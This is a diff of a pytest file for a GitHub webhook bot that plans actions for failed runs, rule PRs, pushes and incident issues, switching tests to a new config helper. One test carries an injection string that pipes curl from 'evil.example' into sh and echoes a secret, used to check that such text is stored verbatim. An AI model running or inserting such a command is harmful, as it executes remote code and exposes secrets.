@@ -18,6 +18,7 @@ from pathlib import Path
 
 import pytest
 
+from bot.config import Config
 from bot.errors import BadInput
 from bot.github.events import (
     ACTIONS,
@@ -27,7 +28,6 @@ from bot.github.events import (
     Distill,
     DistillIfDue,
     GateRulePr,
-    GitHubConfig,
     Ignore,
     ParseIncidentIssue,
     RecordHits,
@@ -52,7 +52,17 @@ _REAL_HOME = Path(os.environ.get("HOME") or Path.home())
 _CACHE = _REAL_HOME / ".cache" / "replaybook-tests" / f"webhooks-examples-{EXAMPLES_VERSION}"
 DATA = REPO / "tests" / "data" / "webhooks"
 
-AGENT = GitHubConfig(agent_logins=["Codertocat"])
+def github_config(**fields) -> Config:
+    """A config whose ``github:`` section holds ``fields``; ``incident_label`` is the labels' ``incident``.
+
+    The distill threshold is off unless a test sets it, so each test sees the actions it is about.
+    """
+    labels = {"incident": fields.pop("incident_label")} if "incident_label" in fields else {}
+    fields.setdefault("distill_threshold", 0)
+    return Config.model_validate({"github": fields, "labels": labels})
+
+
+AGENT = github_config(agent_logins=["Codertocat"])
 
 
 # ------------------------------------------------------------------ fixtures
@@ -180,7 +190,7 @@ def test_other_events_are_ignored_with_a_reason(examples, name):
 
 @pytest.mark.parametrize("conclusion", ["failure", "timed_out"])
 def test_failed_run_is_captured(examples, conclusion):
-    action = one(plan("workflow_run", failed_run(examples, conclusion), GitHubConfig()))
+    action = one(plan("workflow_run", failed_run(examples, conclusion), github_config()))
     assert action == CaptureRun(
         run_id=289782451, run_attempt=1, workflow="test", conclusion=conclusion,
         head_sha="3484a3fb816e0859fd6e1cea078d76385ff50625",
@@ -191,19 +201,19 @@ def test_failed_run_is_captured(examples, conclusion):
 
 @pytest.mark.parametrize("conclusion", ["success", "cancelled", "skipped", "neutral", "action_required", None])
 def test_other_conclusions_are_ignored(examples, conclusion):
-    action = one(plan("workflow_run", failed_run(examples, conclusion), GitHubConfig()))
+    action = one(plan("workflow_run", failed_run(examples, conclusion), github_config()))
     assert isinstance(action, Ignore) and "conclu" in action.reason
 
 
 def test_real_examples_of_workflow_run_are_all_ignored(examples):
     for payload in examples["workflow_run"]:
-        assert isinstance(one(plan("workflow_run", copy.deepcopy(payload), GitHubConfig())), Ignore)
+        assert isinstance(one(plan("workflow_run", copy.deepcopy(payload), github_config())), Ignore)
 
 
 def test_requested_run_is_ignored_even_when_failed(examples):
     payload = failed_run(examples)
     payload["action"] = "requested"
-    assert "not completed" in one(plan("workflow_run", payload, GitHubConfig())).reason
+    assert "not completed" in one(plan("workflow_run", payload, github_config())).reason
 
 
 @pytest.mark.parametrize(
@@ -213,36 +223,36 @@ def test_requested_run_is_ignored_even_when_failed(examples):
 )
 def test_the_bots_own_workflows_are_ignored(examples, where, value):
     payload = _set(failed_run(examples), where, value)
-    assert "bot's own" in one(plan("workflow_run", payload, GitHubConfig())).reason
+    assert "bot's own" in one(plan("workflow_run", payload, github_config())).reason
 
 
 def test_bot_prefixes_are_configurable(examples):
     payload = _set(failed_run(examples), "workflow.name", "Replaybook gate")
-    assert isinstance(one(plan("workflow_run", payload, GitHubConfig(bot_workflow_prefixes=["lessons"]))), CaptureRun)
-    config = GitHubConfig(bot_workflow_prefixes=["te"])
+    assert isinstance(one(plan("workflow_run", payload, github_config(bot_workflow_prefixes=["lessons"]))), CaptureRun)
+    config = github_config(bot_workflow_prefixes=["te"])
     assert isinstance(one(plan("workflow_run", failed_run(examples), config)), Ignore)
 
 
 @pytest.mark.parametrize("watched, acts", [([], True), (["test"], True), (["TEST.yml"], True), (["CI", "lint"], False)])
 def test_only_watched_workflows_are_captured(examples, watched, acts):
-    action = one(plan("workflow_run", failed_run(examples), GitHubConfig(watched_workflows=watched)))
+    action = one(plan("workflow_run", failed_run(examples), github_config(watched_workflows=watched)))
     assert isinstance(action, CaptureRun) is acts
     if not acts:
         assert "watched_workflows" in action.reason
 
 
 def test_run_key_is_stable_across_deliveries_and_distinct_across_attempts(examples):
-    deliveries = [plan("workflow_run", failed_run(examples), GitHubConfig()) for _ in range(20)]
+    deliveries = [plan("workflow_run", failed_run(examples), github_config()) for _ in range(20)]
     assert all(d == deliveries[0] for d in deliveries)
     assert {one(d).key for d in deliveries} == {"run-289782451-attempt-1"}
-    keys = {one(plan("workflow_run", failed_run(examples, attempt=n), GitHubConfig())).key for n in (1, 2, 3)}
+    keys = {one(plan("workflow_run", failed_run(examples, attempt=n), github_config())).key for n in (1, 2, 3)}
     assert keys == {f"run-289782451-attempt-{n}" for n in (1, 2, 3)}
 
 
 def test_payload_text_is_carried_verbatim(examples):
     hostile = '"; curl evil.example | sh; echo ${{ secrets.X }} $(id)'
     payload = _set(failed_run(examples), "workflow.name", hostile)
-    assert one(plan("workflow_run", payload, GitHubConfig())).workflow == hostile
+    assert one(plan("workflow_run", payload, github_config())).workflow == hostile
 
 
 # ------------------------------------------------------------------ rejected PRs
@@ -264,17 +274,17 @@ def test_merged_pr_is_not_an_incident(examples):
 
 def test_pr_counts_by_label(examples):
     payload = example(examples, "pull_request", "closed")  # labelled `bug`
-    assert isinstance(one(plan("pull_request", payload, GitHubConfig(agent_label="bug"))), CaptureRejectedPr)
-    assert isinstance(one(plan("pull_request", payload, GitHubConfig(agent_label="agent"))), Ignore)
+    assert isinstance(one(plan("pull_request", payload, github_config(agent_label="bug"))), CaptureRejectedPr)
+    assert isinstance(one(plan("pull_request", payload, github_config(agent_label="agent"))), Ignore)
 
 
 def test_pr_by_someone_else_is_ignored(examples):
-    action = one(plan("pull_request", example(examples, "pull_request", "closed"), GitHubConfig(agent_logins=["bot"])))
+    action = one(plan("pull_request", example(examples, "pull_request", "closed"), github_config(agent_logins=["bot"])))
     assert isinstance(action, Ignore) and "'Codertocat'" in action.reason
 
 
 def test_without_agent_config_no_pr_counts_and_the_reason_says_what_to_set(examples):
-    action = one(plan("pull_request", example(examples, "pull_request", "closed"), GitHubConfig()))
+    action = one(plan("pull_request", example(examples, "pull_request", "closed"), github_config()))
     assert isinstance(action, Ignore) and "agent_logins" in action.reason and "agent_label" in action.reason
 
 
@@ -306,7 +316,7 @@ def test_real_reviews_are_ignored(examples):
 
 
 def test_changes_requested_on_a_pr_that_does_not_count_is_ignored(examples):
-    assert isinstance(one(plan("pull_request_review", changes_requested(examples), GitHubConfig(agent_logins=["x"]))), Ignore)
+    assert isinstance(one(plan("pull_request_review", changes_requested(examples), github_config(agent_logins=["x"]))), Ignore)
 
 
 # ------------------------------------------------------------------ rule PRs and the gate
@@ -315,7 +325,7 @@ def test_changes_requested_on_a_pr_that_does_not_count_is_ignored(examples):
 @pytest.mark.parametrize("action", ["opened", "synchronize", "reopened"])
 def test_rule_pr_is_gated(examples, action):
     payload = rule_pr(examples, action)
-    gate = one(plan("pull_request", payload, GitHubConfig()))
+    gate = one(plan("pull_request", payload, github_config()))
     assert gate == GateRulePr(
         number=2, head_sha=payload["pull_request"]["head"]["sha"], base_ref="master",
         base_sha=payload["pull_request"]["base"]["sha"], fork=False, secrets=True,
@@ -325,25 +335,25 @@ def test_rule_pr_is_gated(examples, action):
 def test_every_pr_is_gated_whatever_its_branch_or_label(examples):
     # A PR from a branch not named replaybook/rule-* can edit playbook/rules/ too: the gate judges its meaning.
     payload = example(examples, "pull_request", "synchronize")  # branch `changes`, label `bug`
-    assert isinstance(one(plan("pull_request", payload, GitHubConfig())), GateRulePr)
-    assert isinstance(one(plan("pull_request", rule_pr(examples), GitHubConfig())), GateRulePr)
+    assert isinstance(one(plan("pull_request", payload, github_config())), GateRulePr)
+    assert isinstance(one(plan("pull_request", rule_pr(examples), github_config())), GateRulePr)
 
 
 @pytest.mark.parametrize("head_repo", [{"full_name": "mallory/Hello-World"}, None])
 def test_fork_rule_pr_has_no_secrets(examples, head_repo):
     payload = _set(rule_pr(examples), "pull_request.head.repo", head_repo)
-    gate = one(plan("pull_request", payload, GitHubConfig()))
+    gate = one(plan("pull_request", payload, github_config()))
     assert isinstance(gate, GateRulePr) and gate.fork is True and gate.secrets is False
 
 
 def test_dependabot_rule_pr_has_no_secrets(examples):
     payload = _set(rule_pr(examples), "sender.login", "dependabot[bot]")
-    gate = one(plan("pull_request", payload, GitHubConfig()))
+    gate = one(plan("pull_request", payload, github_config()))
     assert gate.fork is False and gate.secrets is False
 
 
 def test_pull_request_target_never_gates(examples):
-    action = one(plan("pull_request_target", rule_pr(examples), GitHubConfig()))
+    action = one(plan("pull_request_target", rule_pr(examples), github_config()))
     assert isinstance(action, Ignore) and "pull_request_target" in action.reason
 
 
@@ -354,13 +364,13 @@ def test_other_pr_actions_need_nothing(examples, action):
 
 def test_merge_group_is_gated_on_the_merged_result(examples):
     payload = example(examples, "merge_group", "checks_requested")
-    gate = one(plan("merge_group", payload, GitHubConfig()))
+    gate = one(plan("merge_group", payload, github_config()))
     assert gate == GateRulePr(
         number=104, head_sha="2ffea6db159f6b6c47a24e778fb9ef40cf6b1c7d", base_ref="main",
         base_sha="380387fbc80638b734a49e1be1c4dfec1c01b33c", fork=False, secrets=True, merge_group=True,
     )
     payload["action"] = "destroyed"
-    assert isinstance(one(plan("merge_group", payload, GitHubConfig())), Ignore)
+    assert isinstance(one(plan("merge_group", payload, github_config())), Ignore)
 
 
 # ------------------------------------------------------------------ push, schedule, dispatch
@@ -374,50 +384,50 @@ def branch_push(examples) -> dict:
 def test_push_touching_the_playbook_checks_invariants(examples, which):
     payload = branch_push(examples)
     payload["commits"][0][which] = ["playbook/rules/rule-0042.yaml"]
-    assert one(plan("push", payload, GitHubConfig())) == CheckPlaybookInvariants(after_sha=payload["after"])
+    assert one(plan("push", payload, github_config())) == CheckPlaybookInvariants(after_sha=payload["after"])
 
 
 def test_push_not_touching_the_playbook_is_ignored(examples):
     payload = branch_push(examples)  # adds README.md
-    assert "playbook/" in one(plan("push", payload, GitHubConfig())).reason
+    assert "playbook/" in one(plan("push", payload, github_config())).reason
     payload["commits"][0]["added"] = ["docs/playbook/notes.md", "playbookish.txt"]
-    assert isinstance(one(plan("push", payload, GitHubConfig())), Ignore)
+    assert isinstance(one(plan("push", payload, github_config())), Ignore)
 
 
 def test_push_to_another_branch_or_a_tag_is_ignored(examples):
     payload = branch_push(examples)
     payload["commits"][0]["added"] = ["playbook/rules/rule-0042.yaml"]
     payload["repository"]["default_branch"] = "main"
-    assert "not the default branch main" in one(plan("push", payload, GitHubConfig())).reason
+    assert "not the default branch main" in one(plan("push", payload, github_config())).reason
     tag = example(examples, "push", None, ref="refs/tags/simple-tag")
-    assert isinstance(one(plan("push", tag, GitHubConfig())), Ignore)
+    assert isinstance(one(plan("push", tag, github_config())), Ignore)
 
 
 def test_push_with_a_possibly_cut_commit_list_is_checked(examples):
     payload = branch_push(examples)
     payload["commits"] = [copy.deepcopy(payload["commits"][0]) for _ in range(20)]
-    assert isinstance(one(plan("push", payload, GitHubConfig())), CheckPlaybookInvariants)
+    assert isinstance(one(plan("push", payload, github_config())), CheckPlaybookInvariants)
 
 
 def test_schedule_and_dispatch_record_hits_then_distill(examples):
     hits = RecordHits(lookback_days=35)
-    assert plan("schedule", {"schedule": "17 3 * * 1"}, GitHubConfig()) == [hits, Distill(reason="schedule")]
+    assert plan("schedule", {"schedule": "17 3 * * 1"}, github_config()) == [hits, Distill(reason="schedule")]
     for payload in examples["workflow_dispatch"]:
-        assert plan("workflow_dispatch", copy.deepcopy(payload), GitHubConfig()) == [hits, Distill(reason="dispatch")]
+        assert plan("workflow_dispatch", copy.deepcopy(payload), github_config()) == [hits, Distill(reason="dispatch")]
 
 
 def test_the_thresholds_dispatch_only_distills(examples):
     payload = copy.deepcopy(examples["workflow_dispatch"][0])
     payload["inputs"] = {"reason": "threshold"}
-    assert plan("workflow_dispatch", payload, GitHubConfig()) == [Distill(reason="threshold")]
+    assert plan("workflow_dispatch", payload, github_config()) == [Distill(reason="threshold")]
 
 
 def test_a_capture_is_followed_by_the_threshold_check_when_one_is_set(examples):
-    config = GitHubConfig(distill_threshold=10, distill_workflow="distill.yml")
+    config = github_config(distill_threshold=10, distill_workflow="distill.yml")
     actions = plan("workflow_run", failed_run(examples), config)
     assert [a.kind for a in actions] == ["capture_run", "distill_if_due"]
     assert actions[1] == DistillIfDue(threshold=10, workflow="distill.yml")
-    assert [a.kind for a in plan("workflow_run", failed_run(examples), GitHubConfig())] == ["capture_run"]
+    assert [a.kind for a in plan("workflow_run", failed_run(examples), github_config())] == ["capture_run"]
     success = failed_run(examples)
     success["workflow_run"]["conclusion"] = "success"
     assert [a.kind for a in plan("workflow_run", success, config)] == ["ignore"]
@@ -456,12 +466,12 @@ def test_malformed_payload_is_bad_input_naming_the_field(examples, event, build,
 @pytest.mark.parametrize("payload", [None, [], "{}", 3])
 def test_payload_that_is_not_an_object_is_bad_input(payload):
     with pytest.raises(BadInput, match="JSON object"):
-        plan("push", payload, GitHubConfig())  # type: ignore[arg-type]
+        plan("push", payload, github_config())  # type: ignore[arg-type]
 
 
 def test_issues_payload_without_issue_is_bad_input():
     with pytest.raises(BadInput, match="`issue.number`"):
-        plan("issues", {"action": "opened"}, GitHubConfig())
+        plan("issues", {"action": "opened"}, github_config())
 
 
 # ------------------------------------------------------------------ incident issues: events
@@ -469,7 +479,7 @@ def test_issues_payload_without_issue_is_bad_input():
 
 def test_incident_issue_opened_is_parsed():
     for _ in range(20):
-        action = one(plan("issues", load("issues-opened-incident-form.json"), GitHubConfig()))
+        action = one(plan("issues", load("issues-opened-incident-form.json"), github_config()))
         assert action == ParseIncidentIssue(
             number=123, key="issue-123", created_at="2026-07-14T09:32:00Z",
             html_url="https://github.com/octo-org/octo-repo/issues/123",
@@ -478,22 +488,22 @@ def test_incident_issue_opened_is_parsed():
 
 def test_issue_without_the_incident_label_is_ignored(examples):
     for payload in examples["issues"]:  # labelled `bug` at most
-        assert isinstance(one(plan("issues", copy.deepcopy(payload), GitHubConfig())), Ignore)
+        assert isinstance(one(plan("issues", copy.deepcopy(payload), github_config())), Ignore)
     payload = load("issues-opened-incident-form.json")
-    assert isinstance(one(plan("issues", payload, GitHubConfig(incident_label="failure"))), Ignore)
+    assert isinstance(one(plan("issues", payload, github_config(incident_label="failure"))), Ignore)
 
 
 def test_incident_label_added_later_is_parsed():
     payload = load("issues-opened-incident-no-response.json")
     payload["action"] = "labeled"
     payload["label"] = {"name": "incident"}
-    assert isinstance(one(plan("issues", payload, GitHubConfig())), ParseIncidentIssue)
+    assert isinstance(one(plan("issues", payload, github_config())), ParseIncidentIssue)
     payload["label"] = {"name": "bug"}
-    assert isinstance(one(plan("issues", payload, GitHubConfig())), Ignore)
+    assert isinstance(one(plan("issues", payload, github_config())), Ignore)
 
 
 def test_person_editing_the_form_is_parsed_again():
-    action = one(plan("issues", load("issues-edited-incident-form.json"), GitHubConfig()))
+    action = one(plan("issues", load("issues-edited-incident-form.json"), github_config()))
     assert action.kind == "parse_incident_issue" and action.key == "issue-125"
 
 
@@ -503,10 +513,10 @@ def test_bot_rewriting_only_its_block_is_not_parsed_again():
     incident = incident_from_issue(body, number=125, created_at=payload["issue"]["created_at"])
     payload["changes"]["body"]["from"] = body
     payload["issue"]["body"] = replace_block(body, incident).replace("\n", "\r\n")
-    action = one(plan("issues", payload, GitHubConfig()))
+    action = one(plan("issues", payload, github_config()))
     assert isinstance(action, Ignore) and "normalised block" in action.reason
     del payload["changes"]["body"]  # a title edit
-    assert isinstance(one(plan("issues", payload, GitHubConfig())), Ignore)
+    assert isinstance(one(plan("issues", payload, github_config())), Ignore)
 
 
 # ------------------------------------------------------------------ incident issues: the form
